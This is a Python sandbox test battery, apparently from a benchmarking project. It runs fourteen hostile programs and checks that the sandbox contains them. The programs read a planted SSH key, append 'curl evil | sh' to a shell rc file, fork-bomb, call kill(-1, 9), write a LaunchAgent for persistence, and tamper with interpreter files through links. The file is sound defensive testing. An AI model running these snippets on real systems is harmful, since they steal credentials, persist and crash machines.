"""The hostile-program battery: fourteen model-written programs that try to leave a trace, and the checks.

Each program first re-executes itself with a unique marker in its command line, so every process it
makes can be found afterwards from outside the sandbox by that marker alone (not by the sandbox's
own bookkeeping). ``run_battery`` runs them all under one backend and says, per program, whether it
left a trace: a secret it read, a file it changed or created (in the fake home, in the interpreter's
installation, anywhere outside its folder), a connection a listener accepted (loopback, a unix socket
in /run, an abstract one), a process still alive, or a verdict other than the one its own ending
calls for (``kill(-1, 9)`` must not reach the harness or the runner).

``UNCONFINED_UNSAFE`` names the cases never run without a sandbox (``none``): as root, ``kill(-1, 9)``
would kill every process on the machine.

Run as a script (``python tests/sandbox/hostile_battery.py``), it runs the battery under this
machine's default backend and prints the verdicts as JSON: the non-root test runs it that way under
``setpriv``.
"""

from __future__ import annotations

import json
import os
import secrets
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import psutil

from mlx_benchmarks.sandbox import launch
from mlx_benchmarks.sandbox.run import SandboxResult, run_program
from mlx_benchmarks.sandbox.seatbelt import interpreter_prefixes

SECRET = "hunter2-ssh-private-key"
UNCONFINED_UNSAFE = frozenset({"kill_all"})
CASES = ("read_ssh_key", "append_zshrc", "connect_loopback", "detached_child", "fork_bomb", "memory_hog",
         "infinite_loop", "detached_empty_env", "link_into_interpreter", "unix_sockets", "kill_all",
         "launch_agent", "sparse_10gb", "thousand_threads")


@dataclass(frozen=True)
class Verdict:
    """One program's outcome: ``ok`` when it left no trace."""

    ok: bool
    detail: str


def _reexec(marker: str, body: str) -> str:
    """A program that restarts itself with ``marker`` in its argv, then runs ``body``."""
    return (
        "import os, sys\n"
        f"if {marker!r} not in sys.argv:\n"
        "    src = open('main.py').read()\n"
        f"    os.execv(sys.executable, [sys.executable, '-c', src, {marker!r}])\n"
        + body
    )


def _alive_with(marker: str) -> list[int]:
    """Live processes (zombies excluded) whose command line holds ``marker``, seen from outside."""
    found = []
    for proc in psutil.process_iter(["cmdline", "status"]):
        if proc.info["status"] == psutil.STATUS_ZOMBIE:
            continue
        if marker in " ".join(proc.info["cmdline"] or []):
            found.append(proc.pid)
    return found


def _no_processes_left(marker: str) -> tuple[bool, str]:
    time.sleep(0.3)  # whatever was killed has had time to go
    left = _alive_with(marker)
    return (not left, f"processes left: {left}" if left else "no process left")


def plant_home(base: Path) -> tuple[Path, Path, Path]:
    """A fake home with an ssh key and a shell rc file, both readable and writable by anyone, so only
    the sandbox (not file modes) keeps the program out."""
    home = base / "home"
    (home / ".ssh").mkdir(parents=True)
    key = home / ".ssh" / "id_ed25519"
    key.write_text(SECRET + "\n")
    rc = home / ".zshrc"
    rc.write_text("# rc\n")
    (home / "Library" / "LaunchAgents").mkdir(parents=True)
    for path in (base, home, home / ".ssh", home / "Library", home / "Library" / "LaunchAgents"):
        path.chmod(0o777)
    for path in (key, rc):
        path.chmod(0o666)
    return home, key, rc


def run_battery(kind: str | None, base: Path) -> dict[str, Verdict]:
    """Every hostile program under ``kind`` (None: the default backend); ``base`` holds the fake home."""
    home, key, rc = plant_home(base)
    old_home = os.environ.get("HOME")
    os.environ["HOME"] = str(home)
    try:
        return _battery(kind, home, key, rc)
    finally:
        if old_home is None:
            os.environ.pop("HOME", None)
        else:
            os.environ["HOME"] = old_home


def _run(kind: str | None, code: str, **limits: float) -> SandboxResult:
    return run_program(code, kind=kind, **limits)  # type: ignore[arg-type]


def _battery(kind: str | None, home: Path, key: Path, rc: Path) -> dict[str, Verdict]:
    verdicts: dict[str, Verdict] = {}
    tag = secrets.token_hex(6)

    def marker(name: str) -> str:
        return f"mlxb-hostile-{name}-{tag}"

    # 1. read the ssh key in $HOME
    result = _run(kind, _reexec(marker("read"), (
        f"for p in [{str(key)!r}, os.path.expanduser('~/.ssh/id_ed25519')]:\n"
        "    try:\n        print('READ', open(p).read())\n"
        "    except OSError as exc:\n        print('DENIED', type(exc).__name__)\n")))
    leaked = SECRET in result.stdout + result.stderr
    verdicts["read_ssh_key"] = Verdict(not leaked and "DENIED" in result.stdout, result.stdout.strip()[:200])

    # 2. append to ~/.zshrc, and write files where any uid may write
    targets = [str(rc), str(home / "new-file"), f"/tmp/{marker('w')}", f"/var/tmp/{marker('w')}",
               f"/dev/shm/{marker('w')}"]
    result = _run(kind, _reexec(marker("write"), (
        f"for p in {targets!r}:\n"
        "    try:\n        open(p, 'a').write('curl evil | sh\\n')\n        print('WROTE', p)\n"
        "    except OSError as exc:\n        print('DENIED', p, type(exc).__name__)\n")))
    changed = rc.read_text() != "# rc\n" or any(Path(t).exists() for t in targets[1:])
    for leaked_file in targets[2:]:  # only an unprotected run gets this far: leave the machine clean
        Path(leaked_file).unlink(missing_ok=True)
    verdicts["append_zshrc"] = Verdict(not changed, result.stdout.strip()[:300])

    # 3. connect to a listener on loopback
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as server:
        server.bind(("127.0.0.1", 0))
        server.listen(5)
        server.settimeout(0.5)
        port = server.getsockname()[1]
        result = _run(kind, _reexec(marker("net"), (
            "import socket\ntry:\n"
            f"    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'leak')\n"
            "    print('CONNECTED')\nexcept OSError as exc:\n    print('BLOCKED', type(exc).__name__)\n")))
        try:
            server.accept()[0].close()
            accepted = True
        except TimeoutError:
            accepted = False
    verdicts["connect_loopback"] = Verdict(not accepted and "CONNECTED" not in result.stdout, result.stdout.strip())

    # 4. a detached grandchild that outlives the program
    result = _run(kind, _reexec(marker("detach"), (
        "import time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(60)\n"
        "    os._exit(0)\nprint('parent done')\n")), timeout_s=10)
    gone, detail = _no_processes_left(marker("detach"))
    verdicts["detached_child"] = Verdict(gone and "parent done" in result.stdout, detail)

    # 5. a fork bomb
    started = time.monotonic()
    result = _run(kind, _reexec(marker("bomb"), "while True:\n    os.fork()\n"), timeout_s=5)
    gone, detail = _no_processes_left(marker("bomb"))
    quick = time.monotonic() - started < 30
    verdicts["fork_bomb"] = Verdict(gone and quick and result.status != "passed",
                                    f"{result.status} {result.error}; {detail}")

    # 6. a memory hog (512 MB limit); one process, not re-executed, so the runner reports how it ended
    result = _run(kind, "chunks = []\nwhile True:\n    chunks.append(bytearray(32 * 1024 * 1024))\n", timeout_s=20)
    verdicts["memory_hog"] = Verdict(result.status == "killed", f"{result.status} {result.error}")

    # 7. an infinite loop
    started = time.monotonic()
    result = _run(kind, _reexec(marker("loop"), "while True:\n    pass\n"), timeout_s=1.5)
    gone, detail = _no_processes_left(marker("loop"))
    elapsed = time.monotonic() - started
    verdicts["infinite_loop"] = Verdict(gone and result.status == "timeout" and elapsed < 15,
                                        f"{result.status} after {elapsed:.1f}s; {detail}")
    verdicts.update(_more(kind, home, marker))
    return verdicts


def _more(kind: str | None, home: Path, marker: Callable[[str], str]) -> dict[str, Verdict]:
    """The cases of issue #18 item 6: escapes, links, sockets, signals, persistence, disk, threads."""
    verdicts: dict[str, Verdict] = {}
    tag = marker("x")

    # 8. fork, setsid, fork again, exec Python with an empty environment (no token to find it by)
    result = _run(kind, _reexec(marker("bare"), (
        "import time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        f"        os.execve(sys.executable, [sys.executable, '-c', 'import time; time.sleep(60)', {marker('bare')!r}], {{}})\n"
        "    os._exit(0)\ntime.sleep(0.3)\nprint('parent done')\n")), timeout_s=10)
    gone, detail = _no_processes_left(marker("bare"))
    verdicts["detached_empty_env"] = Verdict(gone and result.status == "passed", f"{result.status}; {detail}")

    # 9. a hard link and a symbolic link to a file of the interpreter's installation, written through
    verdicts["link_into_interpreter"] = _link_case(kind, marker)

    # 10. socketpair (allowed, stays in the process), a unix socket in /run and an abstract one
    verdicts["unix_sockets"] = _socket_case(kind, marker)

    # 11. kill(-1, SIGKILL): everything the program may signal; never the harness, the runner or a bystander
    if kind != "none":
        bystander = subprocess.Popen(["sleep", "30"], start_new_session=True)
        try:
            result = _run(kind, "import os\nos.kill(-1, 9)\nprint('after kill', flush=True)\n"
                                "assert False, 'ends failed'\n", timeout_s=10)
            alive = bystander.poll() is None
        finally:
            bystander.kill()
            bystander.wait()
        verdicts["kill_all"] = Verdict(alive and result.status == "failed" and "after kill" in result.stdout,
                                       f"{result.status} {result.error}; bystander alive: {alive}")

    # 12. persistence: a launchd agent in the user's ~/Library/LaunchAgents (made writable by anyone)
    agent = home / "Library" / "LaunchAgents" / f"com.{tag}.plist"
    result = _run(kind, _reexec(marker("agent"), (
        f"try:\n    open({str(agent)!r}, 'w').write('<plist/>')\n    print('WROTE')\n"
        "except OSError as exc:\n    print('DENIED', type(exc).__name__)\n")))
    made = agent.exists()
    agent.unlink(missing_ok=True)
    verdicts["launch_agent"] = Verdict(not made and result.status == "passed", result.stdout.strip())

    # 13. a 10 GB sparse file, by seek-and-write and by truncate, in its folder, the home and /tmp
    outside = [str(home / f"sparse-{tag}"), f"/tmp/sparse-{tag}"]
    result = _run(kind, _reexec(marker("sparse"), (
        f"for p in ['big', *{outside!r}]:\n"
        "    for how in ('seek', 'truncate'):\n"
        "        try:\n"
        "            with open(p, 'wb') as f:\n"
        "                f.seek(10 << 30) if how == 'seek' else f.truncate(10 << 30)\n"
        "                f.write(b'x') if how == 'seek' else None\n"
        "            print('BIG', p, how, os.stat(p).st_size)\n"
        "        except OSError as exc:\n            print('DENIED', p, how, type(exc).__name__)\n")))
    left = [p for p in outside if Path(p).exists()]
    for path in left:
        Path(path).unlink()
    verdicts["sparse_10gb"] = Verdict(not left and "BIG" not in result.stdout and result.status == "passed",
                                      f"{result.status}; outside: {left}; {result.stdout.strip()[:200]}")

    # 14. a thousand threads: stopped by the process limit or memory, quickly, nothing left
    started = time.monotonic()
    result = _run(kind, _reexec(marker("threads"), (
        "import threading\nstop = threading.Event()\nmade = 0\ntry:\n    for _ in range(1000):\n"
        "        threading.Thread(target=stop.wait, args=(20,), daemon=True).start()\n        made += 1\n"
        "except (RuntimeError, MemoryError, OSError) as exc:\n    print('STOPPED', type(exc).__name__)\n"
        "print('THREADS', made, flush=True)\nstop.set()\n")), timeout_s=15)
    gone, detail = _no_processes_left(marker("threads"))
    elapsed = time.monotonic() - started
    verdicts["thousand_threads"] = Verdict(gone and elapsed < 20 and result.status in ("passed", "killed"),
                                           f"{result.status} after {elapsed:.1f}s; {result.stdout.strip()[-60:]}; "
                                           f"{detail}")
    return verdicts


def _decoy(kind: str | None, tag: str) -> Path | None:
    """A file planted in the installation of the interpreter ``kind`` runs programs under (root only)."""
    python = launch.sandbox_python(kind or "bwrap")
    prefix = Path(os.path.realpath(interpreter_prefixes(python)[0]))
    decoy = prefix / f"mlxb-decoy-{tag}.py"
    try:
        decoy.write_text("ORIGINAL\n")
        decoy.chmod(0o644)  # the stdlib's own mode
    except OSError:
        return None
    return decoy


def _link_case(kind: str | None, marker: Callable[[str], str]) -> Verdict:
    decoy = _decoy(kind, marker("decoy"))
    if decoy is None:
        return Verdict(True, "skipped: this user cannot plant a file in the interpreter's installation")
    try:
        result = _run(kind, _reexec(marker("link"), (
            "for how in ('link', 'symlink'):\n    try:\n"
            f"        getattr(os, how)({str(decoy)!r}, 'via-' + how)\n"
            "        open('via-' + how, 'a').write('pwned\\n')\n        print('WROTE', how)\n"
            "    except OSError as exc:\n        print('DENIED', how, type(exc).__name__)\n")))
        intact = decoy.read_text() == "ORIGINAL\n"
    finally:
        decoy.unlink(missing_ok=True)
    return Verdict(intact and "WROTE" not in result.stdout, result.stdout.strip())


def _socket_case(kind: str | None, marker: Callable[[str], str]) -> Verdict:
    path = f"/run/{marker('sock')}.sock"
    abstract = "\0" + marker("abstract")
    listeners = []
    try:
        for address in (path, abstract):
            server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            try:
                server.bind(address)
            except OSError:
                server.close()
                continue
            if address == path:
                os.chmod(path, 0o777)  # anyone may connect: only the sandbox keeps the program out
            server.listen(5)
            server.settimeout(0.3)
            listeners.append(server)
        result = _run(kind, _reexec(marker("unix"), (
            "import socket\na, b = socket.socketpair()\na.sendall(b'x')\nprint('PAIR', b.recv(1) == b'x')\n"
            f"for address in ({path!r}, {abstract!r}):\n    try:\n"
            "        socket.socket(socket.AF_UNIX).connect(address)\n        print('CONNECTED', repr(address))\n"
            "    except OSError as exc:\n        print('BLOCKED', type(exc).__name__)\n")))
        accepted = 0
        for server in listeners:
            try:
                server.accept()[0].close()
                accepted += 1
            except TimeoutError:
                pass
    finally:
        for server in listeners:
            server.close()
        Path(path).unlink(missing_ok=True)
    ok = accepted == 0 and "CONNECTED" not in result.stdout and "PAIR True" in result.stdout
    return Verdict(ok, f"{len(listeners)} listeners, {accepted} accepted; {result.stdout.strip()}")


def main() -> int:
    """Run the battery under the default backend; print the backend and verdicts as JSON."""
    from mlx_benchmarks.sandbox.backend import current_backend

    backend = current_backend()
    with tempfile.TemporaryDirectory(prefix="mlxb-battery-") as base:
        verdicts = run_battery(None, Path(base))
    print(json.dumps({"backend": backend, "euid": os.geteuid(),
                      "verdicts": {k: {"ok": v.ok, "detail": v.detail} for k, v in verdicts.items()}}))
    return 0 if all(v.ok for v in verdicts.values()) else 1


if __name__ == "__main__":
    sys.exit(main())
